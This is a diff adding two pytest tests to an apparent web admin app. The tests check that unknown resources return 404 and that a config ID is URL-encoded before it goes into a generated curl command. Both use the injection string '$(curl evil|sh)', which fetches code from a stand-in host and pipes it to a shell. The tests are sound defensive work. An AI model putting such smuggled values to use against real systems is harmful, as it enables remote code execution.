@@ -62,3 +62,17 @@ def test_what_it_says_can_be_pasted(world: World, as_: As) -> None:
     admin.send(words[words.index("-X") + 1], path, json.loads(words[words.index("--json") + 1]))
     with world.app.app_context():
         assert points.get(world.point_id).pin_note == "why"
+
+
+def test_nothing_is_said_of_what_is_gone(world: World, as_: As) -> None:
+    for path in ("/configs/$(curl evil|sh)", "/hosts/no-such-host", "/jobs/99999"):
+        page = as_("admin").get(path)
+        assert (page.status_code, 'id="deeds"' in page.text) == (404, False)
+
+
+def test_what_stands_in_an_address_runs_nothing_in_a_shell(world: World) -> None:
+    deed = PAGES["configs.show"][0]
+    with world.app.test_request_context():
+        call = equivalents._curl(deed, {"config_id": "$(curl evil|sh) `x`;"})
+    assert not set("`|;") & set(call)
+    assert shlex.split(call)[-1].endswith("/%24%28curl%20evil%7Csh%29%20%60x%60%3B/backup")
